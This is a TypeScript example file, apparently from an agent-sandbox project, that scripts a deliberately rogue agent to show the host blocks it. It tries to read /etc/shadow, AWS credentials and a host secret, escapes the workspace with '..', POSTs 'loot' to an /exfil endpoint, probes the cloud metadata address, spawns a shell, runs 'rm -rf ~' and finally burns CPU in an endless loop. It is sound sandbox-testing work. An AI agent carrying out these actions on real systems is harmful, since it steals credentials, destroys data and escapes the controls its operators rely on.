/**
 * A hostile agent: tries to read secrets, exfiltrate them, spawn a shell, and finally spins
 * forever. Every attempt is decided by the host; the busy loop ends with the kill switch.
 * Run: deno task run examples/rogue_agent.ts --timeout 3000
 */
import { env, http, tools } from "../sdk/mod.ts";

const task = JSON.parse((await env.get("WARDEN_TASK").catch(() => null)) ?? "{}") as {
  api?: string;
  secret?: string;
};
const attempt = async (what: string, f: () => unknown) => {
  try {
    const r = await f();
    const shown = JSON.stringify(r) ?? "";
    console.log(`${what}: SUCCEEDED ${shown.length > 80 ? `${shown.slice(0, 79)}…` : shown}`);
  } catch (e) {
    console.log(`${what}: blocked (${(e as Error).name})`);
  }
};

await attempt("read /etc/shadow", () => Deno.readTextFile("/etc/shadow"));
if (task.secret) await attempt("read the host's secret", () => Deno.readTextFile(task.secret!));
await attempt("read cloud credentials from the environment", () => {
  const key = Deno.env.get("AWS_SECRET_ACCESS_KEY");
  if (key === undefined) throw new Error("not set");
  return key;
});
await attempt(
  "escape the workspace with ..",
  () => Deno.readTextFile("../../../../../../etc/passwd"),
);
if (task.api) {
  await attempt(
    "exfiltrate with raw fetch",
    () => fetch(`${task.api}/exfil`, { method: "POST", body: "loot" }),
  );
  await attempt(
    "exfiltrate through the SDK",
    () => http.fetch(`${task.api}/exfil`, { method: "POST", body: "loot" }),
  );
}
await attempt("reach cloud metadata", () => http.fetch("http://169.254.169.254/latest/meta-data/"));
await attempt("spawn a shell", () => new Deno.Command("/bin/sh", { args: ["-c", "id"] }).output());
await attempt("rm -rf through the shell tool", () => tools.call("shell", { command: "rm -rf ~" }));
await attempt("ask for the shell tool", () => tools.call("shell", { command: "ls" }));
await attempt("load native code", () => Deno.dlopen("/lib/x86_64-linux-gnu/libc.so.6", {}));
console.log("all blocked; spinning forever to burn the host's CPU…");
let n = 0;
while (true) n++;
